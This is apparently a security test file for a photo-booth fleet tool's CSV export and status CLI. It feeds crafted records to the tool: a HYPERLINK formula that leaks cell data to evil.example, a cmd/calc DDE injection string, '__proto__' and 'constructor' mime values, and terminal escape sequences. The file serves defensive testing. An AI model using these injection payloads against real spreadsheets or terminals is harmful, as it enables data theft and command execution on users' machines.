// Attack: a booth's records carry a code that is a spreadsheet formula, a photo whose mime is
// "constructor", record ids that differ only by `.` and `:`, and a status with terminal escape
// sequences. The operator's export and `fleet status` (the real CLI against real Mosquitto)
// write them harmlessly: the formula as text, the extension from own entries only, one file per
// record, files readable by the operator only, control characters escaped.
import t from 'tap';
import { execFile } from 'node:child_process';
import { mkdtempSync, readdirSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { exportCodes, exportedCodes } from '../../src/fleet/operator/export.ts';
import { openSqliteFleetStore } from '../../src/fleet/operator/store-sqlite.ts';
import type { StoredRecord } from '../../src/fleet/operator/store-types.ts';
import { sha256Hex } from '../../src/fleet/records.ts';
import { topics } from '../../src/fleet/topics.ts';
import { startBroker } from '../fleet/helpers/broker.ts';
import { certClient } from './helpers.ts';

const root = mkdtempSync(join(tmpdir(), 'cabine-sec-export-'));
t.teardown(() => rmSync(root, { recursive: true, force: true }));

function crafted(id: string, code: string, mime: string): StoredRecord {
  const photo = Buffer.from([0xff, 0xd8, 0xff, 1, 2, 3]);
  const record = { id, booth: 'EXP-X', type: 'session', at: '2026-03-01T00:00:00.000Z', data: { code, paidCents: 800 }, files: { photo: { mime, bytes: photo.length, sha256: sha256Hex(photo), base64: photo.toString('base64') } } };
  return { record, keyId: '0000000000000000', recordText: JSON.stringify(record), sig: 'x' };
}

t.test('export: formulas neutralised, own-property mime lookup, injective names, 0600 files', async (t) => {
  const store = openSqliteFleetStore(join(root, 'fleet'));
  t.teardown(() => store.close());
  await store.storeBatch([
    crafted('a.b', '=HYPERLINK("http://evil.example/?"&A1,"click")', 'constructor'),
    crafted('a:b', '+cmd|\' /C calc\'!A0', '__proto__'),
    crafted('ok-1', '@SUM(1)', 'image/jpeg'),
  ]);
  const csv = await exportCodes(store, { format: 'csv' });
  const lines = csv.trim().split('\n').slice(1);
  t.equal(lines.length, 3);
  for (const line of lines) t.match(line, /^"?'[=+@]/, `the code is text, not a formula: ${line.slice(0, 30)}`);
  const dir = join(root, 'files');
  const rows = await exportedCodes(store, { filesDir: dir });
  const files = readdirSync(dir).sort();
  t.equal(files.length, 3, `one file per record: ${files.join(', ')}`);
  t.ok(files.every((f) => /\.(bin|jpg)$/.test(f)), 'extensions from the map\'s own entries only');
  t.notOk(files.some((f) => /function|native code|Object/.test(f)));
  t.ok(rows.every((r) => r.photoFile), 'each row names its file');
  for (const f of files) t.equal(statSync(join(dir, f)).mode & 0o777, 0o600, `${f} is 0600`);
  t.equal(statSync(dir).mode & 0o777, 0o700, 'the folder is 0700');
});

t.test('fleet status prints a booth\'s control characters escaped', async (t) => {
  const broker = await startBroker();
  t.teardown(() => broker.stop());
  const booth = await certClient(broker, 'CTRL-1');
  t.teardown(() => booth.endAsync());
  const status = { state: 'online', booth: 'CTRL-1', version: '1\u001b]0;pwned\u0007', at: new Date().toISOString(), status: { sales: { enabled: false, reason: '\u001b[2J\u001b[Hall good\u202e' } } };
  await booth.publishAsync(topics.status('CTRL-1'), JSON.stringify(status), { qos: 1, retain: true });
  const op = broker.operator();
  const bin = join(import.meta.dirname, '../../bin/cabine.js');
  const out = await new Promise<string>((resolve) =>
    execFile(process.execPath, [bin, 'fleet', 'status', '--url', broker.url, '--ca', broker.ca!.certFile, '--cert', op.certFile, '--key', op.keyFile, '--wait', '1'], (_err, stdout, stderr) => resolve(stdout + stderr)),
  );
  t.match(out, /CTRL-1/, out);
  t.notOk(['\u001b', '\u0007', '\u202e'].some((c) => out.includes(c)), 'no raw control character reaches the terminal');
  t.match(out, /\\x1b\[2J/, 'shown escaped');
});
